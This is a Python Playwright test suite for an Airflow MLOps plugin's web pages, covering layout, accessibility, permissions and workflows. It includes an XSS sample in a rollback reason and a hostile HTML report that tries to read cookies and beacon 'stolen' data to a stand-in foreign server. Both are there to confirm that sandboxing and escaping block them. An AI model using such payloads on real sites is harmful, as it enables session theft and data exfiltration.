"""The MLOps pages in a real browser, against a live Airflow under a prefix: ``python -m tests.ui.pages``.

The demo fills an Airflow once (``--home``; kept, so that a second call starts at once). It is then started again below
``/team/airflow``, and every page is used as people use it: in both themes, on a desk and on a phone, with a mouse and
with the keyboard, by an administrator, by somebody who may only look and by somebody who may not even do that. One line
for each check, a picture of each page, and exit code 1 when one does not hold.
"""

from __future__ import annotations

import argparse
import hashlib
import os
import shutil
import signal
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

from airflow_mlops import demo
from airflow_mlops.demo.__main__ import MARK
from airflow_mlops.demo.__main__ import main as run_demo
from airflow_mlops.demo.airflow import ApiError, LiveAirflow, free_port
from airflow_mlops.store import LocalStore, layout
from tests.unit.plugins.fleets import night

PREFIX = "/team/airflow"
DAGS = Path(demo.__file__).parents[2] / "dags"
USERS = {"admin": "admin", "vera": "viewer"}
SCREENS = {"desk": (1440, 900), "phone": (390, 844)}
MARKUP = '<img src=x onerror="window.hit=1">'
PATIENCE = 60_000  # ms: a browser, four processes and tasks share two cores
FLIGHTS, CANCER, ROUTES = "flight_delays", "breast_cancer", "routes"
FLEET = """pipeline: routes
level: 1
data: {source: routes.parquet, target: late, id: id}
train: {estimator: sklearn.linear_model.Ridge}
evaluate: {metrics: [r2], gates: [{metric: r2, at_least: 0.3}]}
retrain: {schedule: "@yearly"}
fleet: {key: route}
"""
KEYS = 60


@dataclass
class World:
    """What the checks share.

    :param page: of the administrator; ``seen`` collects what went wrong in any page, and who was asked.
    """

    browser: Any
    live: LiveAirflow
    root: str
    pictures: Path
    page: Any = None
    seen: list[str] = field(default_factory=list)
    hosts: set[str] = field(default_factory=set)

    def sign_in(self, user: str, screen: str = "desk") -> Any:
        """A page of a new session of ``user``."""
        width, height = SCREENS[screen]
        context = self.browser.new_context(viewport={"width": width, "height": height})
        page = context.new_page()
        page.set_default_timeout(PATIENCE)
        page.on("pageerror", lambda error: self.seen.append(f"{page.url}: {error}"))
        # data: and blob: ask nobody.
        page.on("request", lambda request: self.hosts.update(filter(None, [urlsplit(request.url).netloc])))
        page.goto(f"{self.root}/auth/login/")
        page.fill("input[name=username]", user)
        page.fill("input[name=password]", user)
        page.keyboard.press("Enter")
        page.wait_for_url(lambda url: "/auth/" not in url)
        return page

    def open(self, path: str, *, page: Any = None, theme: str = "light", screen: str = "desk") -> Any:
        """Open ``path`` below Airflow's root."""
        page = page or self.page
        width, height = SCREENS[screen]
        page.set_viewport_size({"width": width, "height": height})
        page.evaluate("theme => localStorage.setItem('theme', theme)", theme)
        page.goto(f"{self.root}/{path}")
        return page

    def picture(self, name: str, page: Any = None) -> None:
        (page or self.page).screenshot(path=self.pictures / f"{name}.png")


CHECKS: list[Callable[[World], str | None]] = []


def check(function: Callable[[World], str | None]) -> Callable[[World], str | None]:
    """Add a check; what it returns is printed beside its name."""
    CHECKS.append(function)
    return function


def want(truth: Any, words: str) -> None:
    """Fail with ``words``."""
    if not truth:
        raise AssertionError(words)


def whole(pipeline: str, section: str = "timeline") -> str:
    return f"plugin/mlops/pipelines/{pipeline}?section={section}"


@check
def fleet_on_desk_and_phone_in_both_themes(w: World) -> str:
    for screen in SCREENS:
        for theme in ("light", "dark"):
            page = w.open("plugin/mlops", theme=theme, screen=screen)
            for pipeline in (FLIGHTS, CANCER):
                row = page.locator(f'[data-pipeline="{pipeline}"]')
                row.wait_for()
                want("v" in row.inner_text(), f"{pipeline} names no version")
            want("dark" in page.evaluate("document.documentElement.className") or theme == "light", "not dark")
            wide = page.evaluate("""() => [...document.querySelectorAll('li[data-pipeline]')].flatMap((card) =>
              [...card.querySelectorAll('*')]
                .filter((part) => part.getBoundingClientRect().right > card.getBoundingClientRect().right - 4)
                .map((part) => part.textContent))""")
            want(not wide, f"over the border of its card: {wide}")
            w.picture(f"fleet-{screen}-{theme}")
    took = []
    for path, shown in (("plugin/mlops", f'[data-pipeline="{FLIGHTS}"]'), ("dags", f'a[href$="{FLIGHTS}__train"]')):
        began = time.monotonic()
        w.open(path).locator(shown).first.wait_for()
        took.append(time.monotonic() - began)
    return "shown {:.1f} s after its address was opened; Airflow's own list of DAGs {:.1f} s".format(*took)


@check
def fleet_by_keyboard(w: World) -> None:
    page = w.open("plugin/mlops")
    box = page.get_by_role("searchbox", name="Search pipelines")
    # Slower than the page waits before it asks: each letter comes while an answer is on its way.
    box.click()
    page.keyboard.type("breast_cancer", delay=350)
    want(box.input_value() == "breast_cancer", f"typed breast_cancer, there is {box.input_value()}")
    want(box.evaluate("box => box === document.activeElement"), "the search has lost the focus")
    page.locator(f'[data-pipeline="{FLIGHTS}"]').wait_for(state="detached")
    page.wait_for_url("**search=breast_cancer")
    page.get_by_role("searchbox", name="Search pipelines").fill("nothing like this")
    page.get_by_role("button", name="Clear search and filters").press("Enter")
    page.locator(f'[data-pipeline="{FLIGHTS}"]').wait_for()
    head = page.get_by_role("columnheader", name="Pipeline")
    head.get_by_role("button").press("Enter")
    page.wait_for_url("**sort=pipeline**")
    first = "name => document.querySelector('tr[data-pipeline]').dataset.pipeline === name"
    page.wait_for_function(first, arg=CANCER)
    want(head.get_attribute("aria-sort") == "ascending", "the order is not told to who cannot see it")
    page.keyboard.press("Enter")  # the head has kept the focus
    page.wait_for_function(first, arg=ROUTES)
    want(head.get_attribute("aria-sort") == "descending", "the other order is not told")


@check
def the_first_sort_keeps_the_focus(w: World) -> None:
    page = w.open("plugin/mlops")
    button = page.get_by_role("columnheader", name="Level").get_by_role("button")
    button.press("Enter")
    page.wait_for_url("**sort=level**")
    page.wait_for_timeout(1_500)
    want(button.evaluate("button => button === document.activeElement"), "the head has lost the focus")


@check
def a_page_in_the_background_is_read_once_and_again_when_it_is_seen(w: World) -> None:
    page = w.sign_in("admin")
    asked: list[str] = []
    page.on("request", lambda r: asked.append(r.url) if "/mlops/api/fleet" in r.url else None)
    page.clock.install()
    page.add_init_script("Object.defineProperty(document, 'visibilityState', {get: () => window.seen ?? 'hidden'})")
    w.open("plugin/mlops", page=page)
    page.locator(f'[data-pipeline="{FLIGHTS}"]').wait_for(timeout=15_000)
    page.wait_for_timeout(1_000)
    first = len(asked)
    page.clock.fast_forward(61_000)
    page.wait_for_timeout(1_000)
    want(len(asked) == first, "nobody looks, and it is read again")
    page.evaluate("window.seen = 'visible'; document.dispatchEvent(new Event('visibilitychange'))")
    wait_until(page, lambda: len(asked) > first, 10)
    page.context.close()


@check
def card_on_the_home_page(w: World) -> None:
    card = w.open("").get_by_test_id("mlops-attention")
    card.get_by_text("3 pipelines").wait_for()
    card.scroll_into_view_if_needed()
    w.picture("home")


@check
def tab_of_a_dag(w: World) -> None:
    page = w.open(f"dags/{FLIGHTS}__monitor/plugin/mlops-pipeline")
    page.get_by_test_id("mlops-page").get_by_role("heading", name=FLIGHTS, exact=True).wait_for()
    w.picture("tab-of-a-dag")
    page.get_by_role("link", name="whole window").click()
    page.wait_for_url("**/plugin/mlops/pipelines/**")


@check
def a_dag_that_is_no_pipeline_says_so(w: World) -> None:
    w.open("dags/breast_cancer_by_hand/plugin/mlops-pipeline").get_by_text("not part of an MLOps pipeline").wait_for()


SECTIONS = {
    "timeline": "was trained",
    "compare": "95 % intervals",
    "performance": "When the champion changed",
    "drift": "Drift per column",
    "lineage": "comes from",
    "reports": "Model card of",
}


@check
def sections_of_a_pipeline(w: World) -> None:
    for section, words in SECTIONS.items():
        for screen, theme in (("desk", "light"), ("phone", "dark")):
            page = w.open(whole(FLIGHTS, section), screen=screen, theme=theme)
            part = page.get_by_test_id(f"mlops-{section}")
            part.get_by_text(words).first.wait_for()
            if section in ("performance", "drift"):
                part.locator("canvas").first.wait_for()
                time.sleep(1)  # drawn step by step
            wide = page.evaluate("document.documentElement.scrollWidth - innerWidth")
            want(wide < 2, f"{section} is {wide} px wider than the {screen}'s window")
            tab = page.get_by_role("tab", selected=True).and_(page.locator("[aria-controls*=content]")).first
            left, right = tab.evaluate("tab => [tab.getBoundingClientRect().left, tab.getBoundingClientRect().right]")
            want(left >= 0 and right <= SCREENS[screen][0], f"the tab of {section} is out of sight at {left}..{right}")
            tab.evaluate("tab => tab.scrollIntoView({inline: 'nearest'})")
            w.picture(f"{section}-{screen}-{theme}")


@check
def charts_are_also_tables(w: World) -> None:
    for section in ("performance", "drift"):
        part = w.open(whole(FLIGHTS, section)).get_by_test_id(f"mlops-{section}")
        part.get_by_role("button", name="Show as table").press("Enter")
        want(part.get_by_role("table").locator("tbody tr").count() > 1, f"{section} has no table")


@check
def distribution_of_a_column(w: World) -> None:
    page = w.open(whole(FLIGHTS, "drift"))
    page.get_by_role("combobox", name="Column").select_option("humidity")
    page.get_by_text("rows").filter(has_text="This window").first.wait_for()
    page.get_by_test_id("mlops-drift").locator("canvas").nth(1).wait_for()
    page.get_by_role("button", name="Close the distribution").scroll_into_view_if_needed()
    time.sleep(1)
    w.picture("distribution")


@check
def page_of_a_run(w: World) -> None:
    runs = w.live.get(f"dags/{FLIGHTS}__train/dagRuns", limit=100, order_by="-run_after")["dag_runs"]
    trained = next(run for run in runs if "schedule" in run["dag_run_id"])
    page = w.open(f"dags/{FLIGHTS}__train/runs/{trained['dag_run_id']}/plugin/mlops-run")
    page.get_by_test_id("mlops-verdict").wait_for()
    for title in ("Gates", "This run", "Reports"):
        page.get_by_role("heading", name=title, exact=True).wait_for()
    w.picture("run")
    address = page.get_by_role("link", name="whole window").get_attribute("href").removeprefix(PREFIX).lstrip("/")
    page = w.open(address, screen="phone", theme="dark")
    page.get_by_test_id("mlops-verdict").wait_for()
    wide = page.evaluate("document.querySelector('[data-testid=mlops-page]').scrollWidth - innerWidth")
    want(wide <= 0, f"the run is {wide} px wider than a phone")
    w.picture("run-phone-dark")
    page.get_by_role("link", name="its tasks and logs").click()
    page.wait_for_url(lambda url: f"/dags/{FLIGHTS}__train/runs/" in url)


@check
def a_fleet_tells_all_its_keys_and_each_by_itself(w: World) -> None:
    for screen, theme in (("desk", "light"), ("phone", "dark")):
        page = w.open(whole(ROUTES, "models"), screen=screen, theme=theme)
        part = page.get_by_test_id("mlops-models")
        part.locator("[data-key]").nth(24).wait_for()
        part.get_by_test_id("mlops-fleet-training").get_by_text("promoted").wait_for()
        part.locator("canvas").wait_for()
        wide = page.evaluate("document.documentElement.scrollWidth - innerWidth")
        want(wide < 2, f"the keys are {wide} px wider than the {screen}'s window")
        w.picture(f"models-{screen}-{theme}")
    page = w.open(whole(ROUTES, "models"))
    part = page.get_by_test_id("mlops-models")
    part.get_by_role("button", name="failed").press("Enter")
    part.locator('[data-key="r00003"]').wait_for(state="detached")
    want(part.locator("[data-key]").count() == KEYS // 12, "not only what failed is shown")
    part.get_by_role("button", name="All").press("Enter")
    part.get_by_role("button", name="Next").press("Enter")
    part.locator('[data-key="r00025"]').wait_for()
    box = part.get_by_role("searchbox", name="Search keys and reasons")
    box.click()
    page.keyboard.type("r00007", delay=350)
    part.locator('[data-key="r00008"]').wait_for(state="detached")
    want(box.evaluate("box => box === document.activeElement"), "the search has lost the focus")
    part.get_by_role("link", name="r00007").press("Enter")
    page.get_by_role("heading", name="Model of r00007").wait_for()
    page.get_by_test_id("mlops-timeline").get_by_text("was trained").first.wait_for()
    w.picture("model-of-a-key")
    page.get_by_role("button", name="All models").press("Enter")
    part.locator("[data-key]").nth(24).wait_for()
    page.get_by_role("tab", name="Timeline").click()
    page.get_by_text(f"{KEYS} keys were trained and judged").wait_for()
    page = w.open(f"plugin/mlops/runs/{ROUTES}__train/night_1")
    page.get_by_test_id("mlops-verdict").get_by_text("promoted").wait_for()
    page.locator("[data-key]").nth(24).wait_for()
    w.picture("run-of-a-fleet")


@check
def times_follow_airflows_zone(w: World) -> None:
    page = w.open(whole(FLIGHTS))
    shown = page.get_by_test_id("mlops-timeline").locator("time").first
    before = shown.inner_text()
    page.evaluate("""() => {
      localStorage.setItem('timezone', JSON.stringify('Asia/Tokyo'));
      dispatchEvent(new StorageEvent('local-storage', {key: 'timezone'}));
    }""")
    want(shown.inner_text() != before, "the zone was not followed")
    want("Asia/Tokyo" in shown.get_attribute("title"), "the zone is not named")
    page.evaluate("localStorage.removeItem('timezone')")


@check
def numbers_times_and_graphs_are_laid_out_right(w: World) -> None:
    said = w.open("plugin/mlops").evaluate("""async () => {
      const of = (name) => import(new URL(`mlops/static/${name}.js`, document.baseURI));
      const [f, lineage, drift] = [await of("format"), await of("lineage"), await of("drift")];
      const day = (start, end) => f.windowText({start, end}, "Europe/Berlin");
      const nodes = ["source", "code", "data", "model"].map((id) => ({id}));
      const pairs = [["source", "data"], ["data", "model"], ["code", "model"], ["model", "gone"]];
      const edges = pairs.map(([source, target]) => ({source, target}));
      const loop = [{source: "a", target: "b"}, {source: "b", target: "a"}];
      return {
        numbers: [0.91234, 12, 1234.5, 3.14e-7, NaN, null, 0].map((n) => f.number(n)),
        signed: [0.0123, -0.3, 0].map((n) => f.signed(n)),
        moment: f.moment("2026-03-29T01:30:00+00:00", "Europe/Berlin"),
        windows: [day("2026-01-01T00:00:00+00:00", "2026-02-01T00:00:00+00:00"),
                  day("2026-01-01T06:00:00+00:00", "2026-01-01T12:00:00+00:00")],
        texts: [f.localTimes("from 2026-01-01T00:00:00+00:00 to 2026-02-01T00:00:00+00:00, made 2026-01-03T12:00:00.5Z",
                             "Europe/Berlin"), f.localTimes("The T1 of 2026-01-01", "UTC")],
        ago: [f.ago("2026-01-01T00:00:00Z", Date.UTC(2026, 0, 4)), f.ago("2026-01-01T00:05:00Z", Date.UTC(2026, 0, 1))],
        nothing: [f.moment(null, "UTC"), f.ago("no time"), f.effort(NaN)],
        columns: lineage.columns(nodes, edges).map((c) => c.map((n) => n.id)),
        loop: lineage.columns([{id: "a"}, {id: "b"}], loop).flat().length,
        // Effects in units of their own: a missing rate of 0.03 is an alarm, a distance of 0.3 is none.
        steps: [[0.1, 0.33], [0.3, 0.33], [0.4, 0.33], [0.03, 0.02, true], [0.05, 0.02, true], [9, null]]
          .map(([effect, threshold, drifted = false]) => drift.step({effect, threshold, drifted})),
        sentences: ["performance drop", "roc_auc fell", "v2 was trained"].map(f.sentence),
      };
    }""")
    want(
        said
        == {
            "numbers": ["0.912", "12", "1,235", "3.1e-7", "–", "–", "0"],
            "signed": ["+0.0123", "−0.3", "0"],
            "moment": "2026-03-29 03:30:00",  # the night in which the clocks go forward
            "windows": ["2026-01-01 to 2026-02-01", "2026-01-01 07:00 to 2026-01-01 13:00"],
            "texts": ["from 2026-01-01 to 2026-02-01, made 2026-01-03 13:00:00", "The T1 of 2026-01-01"],
            "ago": ["3 d ago", "in 5 min"],
            "nothing": ["–", "–", "–"],
            "columns": [["source"], ["code", "data"], ["model"]],
            "loop": 2,
            "steps": [0, 1, 2, 3, 4, 0],
            "sentences": ["Performance drop", "roc_auc fell", "v2 was trained"],
        },
        str(said),
    )


HOSTILE = """<!doctype html><title>Gate report</title><h1>Gate report</h1>
<a href="FOREIGN/link" target="_blank">more</a>
<form action="FOREIGN/form" target="_top"></form>
<img src="FOREIGN/img"><link rel="stylesheet" href="FOREIGN/style"><iframe src="FOREIGN/inner"></iframe>
<script>
const tried = {};
const attempt = (name, what) => {
  try { const got = what(); tried[name] = got === null ? "refused" : `reached ${got}`; }
  catch (error) { tried[name] = error.name; }
};
attempt("cookie", () => document.cookie);
attempt("storage", () => localStorage.length + sessionStorage.length);
attempt("parent", () => parent.document.title);
attempt("top", () => top.document.title);
attempt("lead top", () => { top.location = "FOREIGN/top"; });
attempt("popup", () => open("FOREIGN/popup"));
document.querySelector("a").click();
document.querySelector("form").submit();
navigator.sendBeacon("FOREIGN/beacon", "stolen");
const ask = (url) => fetch(url, {credentials: "include"}).then((r) => `reached ${r.status}`, (error) => error.name);
window.all = Promise.all([ask("AIRFLOW/api/v2/dags"), ask("AIRFLOW/mlops/api/fleet"), ask("FOREIGN/fetch")])
  .then(([api, pages, foreign]) => ({...tried, api, pages, foreign, origin: self.origin}));
</script>"""
ASTRAY = (
    "location = URL",
    "location.replace(URL)",
    "document.head.innerHTML = `<meta http-equiv=refresh content='0;url=${URL}'>`",
    "document.querySelector('a').target = '_self'; document.querySelector('a').click()",
)


@contextmanager
def foreign_server() -> Iterator[tuple[str, list[str]]]:
    """A server that is not Airflow's; yields its address and the paths that it was asked for."""
    asked: list[str] = []

    class Answer(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_: Any) -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Answer) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}", asked
        server.shutdown()


@check
def a_report_reaches_nothing(w: World) -> str:
    page = w.sign_in("admin")
    with foreign_server() as (foreign, asked):
        text = HOSTILE.replace("FOREIGN", foreign).replace("AIRFLOW", w.root).encode()
        digest = hashlib.sha256(text).hexdigest()
        store = LocalStore(Path(urlsplit(w.live.env["AIRFLOW__MLOPS__STORE"]).path))
        store.put(layout.report(f"{FLIGHTS}__train", digest), text)
        report = f"{w.root}/mlops/reports/{FLIGHTS}__train/{digest}"

        def in_a_tab() -> None:
            page.goto(report)

        def in_the_page() -> None:
            # The frame that the page made for another report.
            w.open(whole(FLIGHTS, "reports"), page=page)
            frame = page.locator("iframe").first
            frame.evaluate("(frame, url) => { frame.loading = 'eager'; frame.src = url; }", report)

        def raw_in_a_tab() -> None:
            page.goto(f"{report}/raw")

        denied = ("cookie", "storage", "parent", "top", "lead top")
        expected = {**dict.fromkeys(denied, "SecurityError"), "popup": "refused", "origin": "null"}
        expected |= dict.fromkeys(("api", "pages", "foreign"), "TypeError")
        for place in (in_a_tab, in_the_page, raw_in_a_tab):
            for way in ASTRAY:
                place()
                outside = page.url
                # Three frames deep at most: Airflow's page, the page around the report, the report.
                frame = wait_until(page, lambda: next((f for f in page.frames if f.url == f"{report}/raw"), None))
                frame.wait_for_function("window.all")
                said = frame.evaluate("all")
                want(said == expected, f"{place.__name__}: {said}")
                frame.evaluate(f"setTimeout(() => {{ {way.replace('URL', repr(f'{foreign}/astray'))} }})")
                wait_until(page, lambda f=frame: f.is_detached() or f.url != f"{report}/raw")
                page.wait_for_timeout(300)
                want(page.url == outside, f"{place.__name__}: the report led the tab to {page.url}")
                want(len(page.context.pages) == 1, f"{place.__name__}: the report opened a tab")
                want(not asked, f"{place.__name__}, {way}: the foreign server was asked for {asked}")
        # It does hear whoever may ask.
        page.goto(f"{foreign}/control")
        want(asked[0] == "/control", f"asked {asked}")
    page.context.close()
    w.hosts.discard(urlsplit(foreign).netloc)
    return f"{len(expected)} ways out and {len(ASTRAY)} ways astray, in a tab and in a page"


def wait_until(page: Any, truth: Callable[[], Any], seconds: float = 20) -> Any:
    """What ``truth`` returns, once it is something."""
    deadline = time.monotonic() + seconds
    while not (found := truth()):
        want(time.monotonic() < deadline, "it did not come to that")
        page.wait_for_timeout(50)  # its events come in meanwhile
    return found


def press(page: Any, name: str) -> Any:
    """Press a button that asks first; returns its dialog."""
    dialog = page.get_by_role("dialog")
    for _ in range(5):
        page.get_by_role("button", name=name).click()
        with suppress(Exception):
            dialog.wait_for(timeout=3_000)
            # Airflow draws a page anew once, soon after its first load.
            time.sleep(2)
            if dialog.is_visible():
                return dialog
    raise AssertionError(f"{name} opens no dialog")


@check
def a_training_started_and_approved_from_the_page(w: World) -> str:
    page = w.open(whole(CANCER))
    dialog = press(page, "Train now")
    dialog.get_by_role("button", name="Train now").click()
    dialog.get_by_role("link", name="manual__").wait_for()
    w.picture("train-now")
    dialog.get_by_role("button", name="Close").click()
    question = page.get_by_test_id("mlops-question")
    question.wait_for(timeout=300_000)
    w.picture("question")
    question.get_by_role("button", name="Approve").click()
    page.get_by_role("dialog").get_by_role("button", name="Approve").click()
    page.get_by_text("Answered: Approve").wait_for()
    page.get_by_role("dialog").get_by_role("button", name="Close").click()
    page.get_by_text("v2 became champion").first.wait_for(timeout=300_000)
    # The head of the page knows it too, without a reload.
    page.locator("header dd").first.filter(has_text="v2").wait_for()
    w.picture("approved")
    return "v2 is the champion"


@check
def a_rollback_from_the_page(w: World) -> str:
    w.live.unpause(f"{CANCER}__registry")
    page = w.open(whole(CANCER))
    dialog = press(page, "Roll back")
    act = dialog.get_by_role("button", name="Roll back")
    want(act.is_disabled(), "a rollback needs a reason")
    dialog.get_by_label("Reason").fill(f"worse in production {MARKUP}")
    act.click()
    dialog.get_by_text("Run success").wait_for(timeout=300_000)
    w.picture("rollback")
    dialog.get_by_role("button", name="Close").click()
    # What somebody wrote is text wherever it is shown.
    page.get_by_text(MARKUP).first.wait_for()
    want(page.evaluate("window.hit") is None, "markup ran")
    changes = w.live.get(f"dags/{CANCER}__registry/dagRuns", order_by="-run_after")["dag_runs"]
    want(changes[0]["triggering_user_name"] == "admin", "the run has no name of a user")
    return "by a run of the registry DAG, as the signed-in user"


@check
def who_may_only_look_cannot_act(w: World) -> None:
    page = w.sign_in("vera")
    w.open(whole(CANCER), page=page)
    button = page.get_by_role("button", name="Train now")
    button.wait_for()
    want(button.is_disabled() and button.get_attribute("title"), "a viewer may press, or is not told why not")
    w.picture("viewer", page)
    page.context.close()


@check
def nothing_failed_and_nobody_else_was_asked(w: World) -> str:
    want(not w.seen, "\n".join(w.seen[:5]))
    own = {f"localhost:{w.live.port}"}
    want(w.hosts == own, f"asked {sorted(w.hosts - own)}")
    return f"{len(CHECKS)} checks"


def chromium() -> str:
    """Path of a Chromium of this machine."""
    names = ("chromium", "chromium-browser", "google-chrome")
    found = os.environ.get("CHROMIUM") or next(filter(None, map(shutil.which, names)), None)
    if not found:
        raise SystemExit("There is no Chromium: install one (Debian: apt install chromium), or say CHROMIUM=PATH")
    return found


@contextmanager
def browser() -> Iterator[Any]:
    try:
        from playwright.sync_api import sync_playwright
    except ModuleNotFoundError:
        raise SystemExit("Playwright is not installed: make ui, or pip install -e '.[ui]'") from None
    with sync_playwright() as playwright:
        # As root in a container Chromium has no sandbox of its own.
        args = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update"]
        yield playwright.chromium.launch(executable_path=chromium(), args=args)


def with_fleet(home: Path) -> Path:
    """The demo's DAGs, and a fleet whose one training stands in the store; their folder."""
    dags = home / "dags"
    shutil.rmtree(dags, ignore_errors=True)
    shutil.copytree(DAGS, dags, ignore=shutil.ignore_patterns("__pycache__"))
    (dags / "pipelines" / f"{ROUTES}.yaml").write_text(FLEET)
    store = LocalStore(home / "store")
    if not store.exists(layout.pipeline_name(ROUTES)):
        night(store, 1, name=ROUTES, keys=KEYS, shard=20, at=datetime.now(UTC))
    return dags


def main() -> int:
    parser = argparse.ArgumentParser(prog="python -m tests.ui.pages", description=(__doc__ or "").partition("\n")[0])
    parser.add_argument("--home", type=Path, default=Path(".demo-ui"), help="of the filled demo; made if need be")
    parser.add_argument("--pictures", type=Path, default=Path(".demo-ui-pictures"))
    parser.add_argument("--only", default="", help="checks whose name has this in it")
    options = parser.parse_args()
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))  # as Ctrl-C: what was started here ends with it
    chromium()
    home: Path = options.home.resolve()
    if not (home / MARK).is_file() and run_demo(["--home", str(home), "--port", str(free_port()), "--no-ui"]):
        return 1
    options.pictures.mkdir(parents=True, exist_ok=True)
    port = free_port()
    env = {
        "AIRFLOW__API__BASE_URL": f"http://localhost:{port}{PREFIX}",
        "AIRFLOW__CORE__SIMPLE_AUTH_MANAGER_USERS": ",".join(f"{name}:{role}" for name, role in USERS.items()),
        "AIRFLOW__MLOPS__STORE": (home / "store").as_uri(),
        "AIRFLOW__MLOPS__DATA_ROOT": str(home / "data"),
    }
    failed = []
    dags = with_fleet(home)
    with browser() as chrome, LiveAirflow(home / "airflow", dags, port=port, env=env, say=print) as live:
        live.wait_for_dags(f"{ROUTES}__train")
        # It waits, as its DAG is paused: the page of a run needs one in Airflow, too.
        with suppress(ApiError):  # it is there since the last time
            body = {"dag_run_id": "night_1", "logical_date": None, "conf": {}}
            live.post(f"dags/{ROUTES}__train/dagRuns", body)
        world = World(chrome, live, live.url, options.pictures)
        world.page = world.sign_in("admin")
        for function in CHECKS:
            name = function.__name__.replace("_", " ")
            if options.only not in function.__name__:
                continue
            began = time.monotonic()
            try:
                said = function(world)
            except Exception as error:  # noqa: BLE001 - each check is told, whatever broke it
                failed.append(name)
                world.picture(f"failed-{function.__name__}")
                print(f"FAIL  {name}: {str(error)[:600]}", flush=True)
                continue
            print(f"ok    {name} ({time.monotonic() - began:.0f} s){f': {said}' if said else ''}", flush=True)
    print(f"\npictures: {options.pictures}", flush=True)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
